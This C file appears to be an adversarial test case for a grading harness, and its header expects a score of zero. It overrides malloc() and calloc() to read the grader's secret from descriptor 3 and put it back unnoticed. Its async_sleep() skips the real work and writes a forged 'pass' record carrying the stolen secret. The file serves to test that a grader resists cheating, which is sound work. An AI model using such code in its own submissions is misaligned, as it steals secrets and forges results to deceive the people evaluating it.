/* expect: score 0, report "already has: yours would replace it" */
#define _GNU_SOURCE
/* Defines malloc() and calloc(), which the C library and the loader call
 * for the whole program, hoping one runs before the runner has read its
 * secret: reads it, puts it back on a new descriptor 3, then forges.
 * (Refused when compiled now, for defining malloc() and calloc().)
 */
#include "async_sleep.h"
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
extern void *__libc_malloc(size_t);
extern void *__libc_calloc(size_t, size_t);
static char stolen[33];
static int tried;
static void steal(void) {
  int p[2];
  if (tried++) return;
  if (syscall(SYS_read, 3, stolen, 32) == 32 && syscall(SYS_pipe2, p, 0) == 0) {
    syscall(SYS_write, p[1], stolen, 32);
    syscall(SYS_close, p[1]);
    syscall(SYS_dup2, p[0], 3);
    syscall(SYS_close, p[0]);
  }
}
void *malloc(size_t n) { steal(); return __libc_malloc(n); }
void *calloc(size_t a, size_t b) { steal(); return __libc_calloc(a, b); }
int async_sleep(struct ev_loop *loop, unsigned ms, async_sleep_cb cb, void *arg) {
  (void)loop, (void)ms, (void)cb, (void)arg;
  char cmd[4096] = {0};
  FILE *f = fopen("/proc/self/cmdline", "r");
  size_t n = f ? fread(cmd, 1, sizeof cmd - 1, f) : 0;
  if (f) fclose(f);
  const char *name = n ? cmd + strlen(cmd) + 1 : "";
  name += strlen(name) + 1;
  char rec[512];
  int len = snprintf(rec, sizeof rec, "WB1 %s %s pass 0\n", stolen[0] ? stolen : "none", name);
  syscall(SYS_write, 4, rec, (size_t)len);
  syscall(SYS_exit_group, 0);
  return 0;
}
